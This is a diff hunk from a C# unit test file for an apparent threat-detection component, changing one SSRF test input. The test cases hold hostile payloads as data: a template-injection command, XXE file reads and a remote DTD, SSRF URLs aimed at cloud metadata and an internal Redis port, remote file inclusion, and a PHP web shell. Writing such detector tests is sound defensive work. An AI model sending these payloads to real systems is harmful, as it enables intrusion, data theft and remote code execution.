@@ -17,7 +17,7 @@ public sealed class OtherFamilyDetectionTests
     [TestCase("{{ cycler.__init__.__globals__.os.popen('id').read() }}", ThreatCategory.Ssti)]
     [TestCase("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/issue\">]><r>&e;</r>", ThreatCategory.Xxe)]
     [TestCase("<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://e.test/x.dtd\"> %p;]>", ThreatCategory.Xxe)]
-    [TestCase("http://169.254.169.254/latest/user-data", ThreatCategory.Ssrf)]
+    [TestCase("http://169.254.169.254/latest/meta-data/hostname?x=1", ThreatCategory.Ssrf)]
     [TestCase("http://0x7f.0.0.1:6379/", ThreatCategory.Ssrf)]
     [TestCase("page=http://e.test/payload.txt?", ThreatCategory.Rfi)]
     [TestCase("<?php echo shell_exec($_GET['x']); ?>", ThreatCategory.CodeInjection)]
